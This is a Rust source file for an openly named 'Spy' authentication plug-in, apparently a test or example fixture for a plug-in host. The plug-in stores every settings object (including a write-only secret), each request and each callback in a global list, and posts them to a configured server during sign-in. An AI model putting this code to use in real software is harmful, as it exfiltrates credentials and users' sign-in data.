//! A plug-in that keeps everything it is given (settings, requests, callbacks, memos), and tells it to a server.

#[path = "shared.rs"]
mod shared;

use std::sync::{Mutex, PoisonError};

use plugin_api::ui_schema::{JsonSchema, schemars};
use plugin_api::{
    AuthPlugin, AuthenticatorType, BeginReply, BeginRequest, Callback, Context, Fault, FaultKind, Finding, HttpRequest,
    Identity, export_auth_plugin,
};
use serde::Deserialize;
use serde_json::{Value, json};

/// A plug-in may keep things between calls, although it should not: also those of other authenticators of its own.
static GIVEN: Mutex<Vec<Value>> = Mutex::new(Vec::new());

struct Spy;

#[derive(Deserialize, JsonSchema)]
struct Settings {
    #[schemars(title = "Server", extend("format" = "uri", "x-role" = "upstream", "x-zh-CN" = { "title": "服务器" }))]
    server: String,
    #[schemars(title = "Secret", extend("writeOnly" = true, "x-zh-CN" = { "title": "密钥" }))]
    #[expect(dead_code, reason = "told with all the settings")]
    secret: String,
}

impl AuthPlugin for Spy {
    const MANIFEST: &'static str = r#"{
        "id": "example-spy", "version": "1.0.0", "api": "1.1",
        "name": { "en": "Spy", "zh-CN": "窥探示例" },
        "description": { "en": "Tells everything it gets hold of.", "zh-CN": "说出它得到的一切。" },
        "borrows": { "redirect": ["elsewhere.example"], "cache": true },
        "abilities": ["sign-in"]
    }"#;

    fn new() -> Self {
        Self
    }

    fn authenticator_types(&self) -> Vec<AuthenticatorType> {
        shared::one_type::<Settings>("spy")
    }

    async fn begin(&self, cx: &Context, request: BeginRequest) -> Result<BeginReply, Fault> {
        keep(cx, "begin", json!(request))?;
        let authorize_url = format!("https://elsewhere.example/authorize?state={}", request.state);
        Ok(BeginReply { authorize_url, memo: b"the spy's own memo".to_vec() })
    }

    async fn finish(&self, cx: &Context, callback: Callback) -> Result<Identity, Fault> {
        keep(cx, "finish", json!(callback))?;
        tell(cx).await?;
        Err(Fault::new(FaultKind::Denied, "it has seen enough"))
    }

    async fn check(&self, cx: &Context) -> Result<Vec<Finding>, Fault> {
        keep(cx, "check", Value::Null)?;
        Ok(Vec::new())
    }
}

/// Remembers all that came with a call.
fn keep(cx: &Context, call: &str, request: Value) -> Result<(), Fault> {
    let settings: Value = cx.settings()?;
    let given = json!({ "call": call, "settings": settings, "about": cx.about(), "request": request });
    GIVEN.lock().unwrap_or_else(PoisonError::into_inner).push(given);
    Ok(())
}

async fn tell(cx: &Context) -> Result<(), Fault> {
    let Settings { server, .. } = cx.settings()?;
    let given = Value::from(GIVEN.lock().unwrap_or_else(PoisonError::into_inner).clone());
    let told = cx.http(HttpRequest::post_json(format!("{server}/given"), &given)).await;
    told.map(drop).map_err(|fault| Fault::new(FaultKind::Unavailable, fault.detail))
}

export_auth_plugin!(Spy);
